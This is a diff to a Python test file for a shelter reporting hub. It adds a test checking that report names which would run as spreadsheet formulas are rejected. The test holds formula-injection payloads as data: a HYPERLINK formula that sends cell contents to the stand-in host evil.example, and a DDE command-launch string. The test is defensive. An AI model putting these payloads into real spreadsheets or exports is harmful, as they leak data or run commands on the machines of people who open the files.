@@ -14,7 +14,7 @@ from shelter_desk.hub import repo
 from shelter_desk.hub.schema import enrolment_token
 from shelter_desk.network import envelope
 from tests.hub.conftest import LiveHub
-from tests.hub.members import add_organisation, call, enrol, sha256, submit
+from tests.hub.members import add_organisation, call, enrol, report_document, sha256, submit
 
 
 def stored(engine: Engine) -> int:
@@ -133,6 +133,31 @@ def test_reports_this_network_does_not_accept_are_refused_with_422(live_hub: Liv
         reply = submit(live_hub.url, signed)
         assert (reply.status, reply.json()["error"]) == (422, code)
     assert stored(live_hub.engine) == 0
+
+
+def test_a_report_whose_names_could_run_as_spreadsheet_formulas_is_refused(live_hub: LiveHub):
+    # GIVEN a member whose report names a table, a dimension or a row as a formula would
+    member = enrol(live_hub.url, live_hub.engine)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"ver")'
+
+    def with_case_types(key: str, dimension: str, row: str) -> list[dict]:
+        tables = report_document(member.organisation_id, "2026-Q1", 1)["tables"]
+        tables[1] = {"key": key, "dimensions": [dimension],
+                     "counts": [{"key": [row], "count": 9}, {"key": ["*"], "count": 9}]}
+        return tables
+
+    hostile = [with_case_types("case_types", "case_type", evil),
+               with_case_types("case_types", "@SUM(1+1)", "asylum"),
+               with_case_types("=cmd|' /C calc'!A0", "case_type", "asylum"),
+               with_case_types("case_types", "case_type", "x" * 65)]
+    # WHEN it sends them, THEN each is refused as not a report of this network
+    for tables in hostile:
+        reply = submit(live_hub.url, member.report(tables=tables))
+        assert (reply.status, reply.json()["error"]) == (422, "invalid_report"), tables
+    assert stored(live_hub.engine) == 0
+    # AND the same report with plain names is accepted
+    plain = with_case_types("case_types", "case_type", "asylum")
+    assert submit(live_hub.url, member.report(tables=plain)).status == 201
 
 
 def test_a_used_token_is_refused_and_binds_nothing(live_hub: LiveHub):
